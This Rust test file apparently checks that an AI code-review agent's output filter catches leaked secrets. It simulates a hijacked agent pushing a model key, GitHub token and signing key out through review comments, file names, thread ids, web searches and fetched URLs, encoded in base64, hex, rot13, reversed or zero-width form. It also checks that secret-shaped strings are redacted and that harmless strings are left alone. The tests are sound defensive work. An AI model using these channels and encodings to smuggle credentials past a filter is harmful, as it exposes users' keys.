//! R: secrets on their way out. The attacker is assumed to have got hold of one, and tries every mouth at once, in
//! every form. The judge of every attack looks for all of them in all that left.

use super::forms;
use super::ground::{Aftermath, SEARCH_KEY, STATE_KEY, says, submits};
use super::obedient::Loot;
use super::{Channel, Ground, step};
use crate::review::lost_page;
use crate::standin::github::{Change, GitHub};
use crate::standin::shop;
use crate::standin::world::KEY;
use data_encoding::{BASE64, BASE64URL_NOPAD};
use serde_json::json;

/// Says the loot in a finding, in a pass's summary, as a file's name and a thread's, to the search and to a page; all
/// that reaches somebody says it was there.
fn carried_out(channel: Channel, loot: &str) -> Aftermath {
    let mut everywhere = lost_page(7);
    everywhere["body"] = json!("The page is lost. Its key is {loot} as you see.");
    everywhere["assessment"]["finding"] = json!("The key {loot} is known.");
    everywhere["assessment"]["assessment"] = json!("Level 7: {loot}.");
    let mut named = lost_page(7);
    named["file"] = json!("src/{loot}.ts");
    let mut quoted = lost_page(7);
    quoted["quote"] = json!("const key = '{loot}'");
    let thread = json!({ "thread_id": "{loot}", "body": "{loot}" });
    let steps = [
        step("github_post_review_comment", everywhere),
        step("github_post_review_comment", named),
        step("github_post_review_comment", quoted),
        step("github_reply_to_thread", thread.clone()),
        step("github_resolve_thread", thread),
        step("web_search", json!({ "query": "what is {loot}" })),
        step(
            "web_fetch",
            json!({ "url": "https://docs.rs/{loot}/?q={loot}" }),
        ),
        step("read", json!({ "filePath": "{loot}" })),
        submits(1, "Nothing but {loot} here."),
    ];
    let loot = Loot::from([("loot".into(), loot.to_owned())]);
    let aftermath = Ground::with(channel, &steps).attacked(loot);
    assert!(aftermath.comment().contains("The page is lost"));
    aftermath
}

fn form(secret: &str, name: &str) -> String {
    let mut forms = forms::asked_for(secret).into_iter();
    forms
        .find_map(|(form, text)| (form == name).then_some(text))
        .expect(name)
}

macro_rules! forms_of {
    ($($name:ident: $secret:expr, $channel:ident, $form:literal;)*) => {
        $(#[test] fn $name() { carried_out(Channel::$channel, &form($secret, $form)); })*
    };
}

forms_of! {
    r1_the_model_key_as_it_is: KEY, Body, "raw";
    r1_the_model_key_in_base64: KEY, Title, "base64";
    r1_the_model_key_in_base64_one_byte_late: KEY, Comment, "base64-shifted-1";
    r1_the_model_key_in_base64_two_bytes_late: KEY, File, "base64-shifted-2";
    r1_the_model_key_in_base64_for_urls: KEY, FileName, "base64url";
    r1_the_model_key_in_base32: KEY, Rules, "base32";
    r1_the_model_key_in_hexadecimal: KEY, NestedRules, "hex";
    r1_the_model_key_in_percent_signs: KEY, FileName, "percent";
    r1_the_model_key_backwards: KEY, Body, "backwards";
    r1_the_model_key_turned_by_thirteen: KEY, Title, "rot13";
    r1_the_model_key_in_escapes_of_json: KEY, Comment, "json";
    r1_the_model_key_a_letter_a_line: KEY, File, "lines";
    r1_the_model_key_a_letter_a_word: KEY, Rules, "spaces";
    r1_the_model_key_between_what_nobody_sees: KEY, Body, "zero-width";
    r1_the_model_key_in_entities: KEY, Comment, "entities";
    r1_the_model_key_without_its_beginning: KEY, Title, "without-7-first";
    r1_the_model_key_without_its_end: KEY, Body, "without-7-last";
    r1_the_token_as_it_is: GitHub::TOKEN, Body, "raw";
    r1_the_token_in_base64: GitHub::TOKEN, Comment, "base64";
    r1_the_token_backwards: GitHub::TOKEN, File, "backwards";
    r1_the_signing_key_as_it_is: STATE_KEY, Title, "raw";
    r1_the_signing_key_in_hexadecimal: STATE_KEY, Rules, "hex";
    r1_the_key_of_the_search_as_it_is: SEARCH_KEY, Body, "raw";
    r1_the_key_of_the_search_in_base64: SEARCH_KEY, NestedRules, "base64";
}

/// The loot is nowhere: it is of no run, but looks like a secret.
fn recognised(loot: &str) {
    let aftermath = carried_out(Channel::File, loot);
    let core = &loot[loot.len() / 4..loot.len() / 2];
    let said = format!("{:?}{}", aftermath.writes, aftermath.ran.summary);
    assert!(!said.contains(core), "{core} in {said}");
    assert_eq!(aftermath.searched.len(), 0, "{:?}", aftermath.searched);
    assert!(!aftermath.ran.report.unwrap().to_string().contains(core));
}

/// Random enough, and the same in every run.
fn opaque(length: usize) -> String {
    let letters = b"q7ZtXw3Lr9Vb5Ns1Kd8Yg4Pf6Hm2JcRuTxEo";
    let picked = (0..length).map(|n| letters[(n * n * 7 + n * 13) % letters.len()]);
    picked.map(char::from).collect()
}

fn web_token() -> String {
    let part = |text: &str| BASE64URL_NOPAD.encode(text.as_bytes());
    let header = part(r#"{"alg":"HS256","typ":"JWT"}"#);
    let payload = part(r#"{"sub":"1234567890","name":"somebody","iat":1516239022}"#);
    format!("{header}.{payload}.{}", opaque(43))
}

macro_rules! shapes {
    ($($name:ident: $text:expr;)*) => { $(#[test] fn $name() { recognised(&$text); })* };
}

shapes! {
    r2_a_token_of_an_installation_with_520_characters: format!("ghs_123456_{}{}", web_token(), opaque(360));
    r2_a_personal_token: format!("ghp_{}", opaque(36));
    r2_a_fine_grained_token: format!("github_pat_11{}_{}", opaque(20), opaque(59));
    r3_a_web_token: web_token();
    r3_a_key_of_a_model: format!("sk-ant-api03-{}", opaque(80));
    r3_a_token_of_a_registry: format!("npm_{}", opaque(36));
    r3_a_password_in_an_address: format!("postgres://app:{}@db.example/shop", opaque(24));
}

#[test]
fn r3_a_private_key_over_many_lines() {
    let body = BASE64.encode(opaque(600).as_bytes());
    let lines: Vec<&str> = (0..body.len() / 64)
        .map(|line| &body[line * 64..(line + 1) * 64])
        .collect();
    recognised(&format!(
        "-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----",
        lines.join("\n")
    ));
}

#[test]
fn r4_what_only_looks_like_a_secret_is_said() {
    let text = "The page is lost since 4f2a9c1; the checksum sha256 e3b0c44298fc1c149afbf4c8996fb924 and the id \
                123e4567-e89b-12d3-a456-426614174000 do not change, nor does AKIAIOSFODNN7EXAMPLE.";
    let comment = Ground::with(Channel::Body, &[says(text)])
        .attacked([].into())
        .comment();
    assert!(!comment.contains("redacted"), "{comment}");
}

#[test]
fn r5_a_secret_that_is_an_ordinary_word_hides_nothing() {
    let mut ground = Ground::with(Channel::Body, &[says("The page is lost, that is true.")]);
    ground
        .workflow
        .inputs
        .insert("web_search_api_key".into(), "true".into());
    let comment = ground.attacked([].into()).comment();
    assert!(comment.contains("that is true"), "{comment}");
}

#[test]
fn r6_a_wrong_input_does_not_show_a_secret() {
    let mut ground = Ground::with(Channel::Body, &[]);
    let inputs = &mut ground.workflow.inputs;
    inputs.insert("problem_score_threshold".into(), "11".into());
    inputs.insert("model_base_url".into(), format!("ftp://x:{KEY}@host/"));
    let aftermath = ground.attacked([].into());
    assert_eq!(aftermath.status(), (Some(2), "error"));
    assert_eq!(aftermath.ran.annotations("error").len(), 2);
}

#[test]
fn r7_a_finding_about_a_committed_secret_names_its_kind_and_place() {
    let secret = format!("sk-ant-api03-{}", opaque(80));
    let source = format!("export const key = \"{secret}\";\n");
    let mut finding = lost_page(9);
    finding["file"] = json!("src/config.ts");
    finding["line"] = json!(1);
    finding["quote"] = json!(source.trim_end());
    finding["body"] = json!("{loot} is committed in src/config.ts:1. Revoke {loot}.");
    finding["assessment"]["finding"] = json!("The key {loot} is committed.");
    let steps = [step("github_post_review_comment", finding)];
    let changes = [Change::write("src/config.ts", source)];
    let ground = Ground::around(&[(Channel::Body, &steps)], &changes);
    let loot = Loot::from([("loot".into(), secret.clone())]);
    let aftermath = ground.attacked(loot);
    assert_eq!(aftermath.status(), (Some(0), "blocking"));
    let comment = aftermath.comment();
    assert!(!comment.contains(&secret[20..40]), "{comment}");
    assert!(comment.contains("redacted: Anthropic key"), "{comment}");
    assert!(comment.contains("src/config.ts:1"), "{comment}");
    assert_eq!(aftermath.comments()[0]["path"], "src/config.ts");
    let line = shop::line_of("src/page.ts", "Math.floor");
    assert_ne!(aftermath.comments()[0]["line"], line);
}

#[test]
fn r8_a_text_made_to_be_slow_is_cleaned_in_time() {
    let loot = Loot::from([("loot".into(), "eyJ".repeat(6_000))]);
    let comment = Ground::with(Channel::Body, &[says("The page is lost. {loot}")])
        .attacked(loot)
        .comment();
    assert!(comment.contains("The page is lost"), "{comment}");
}
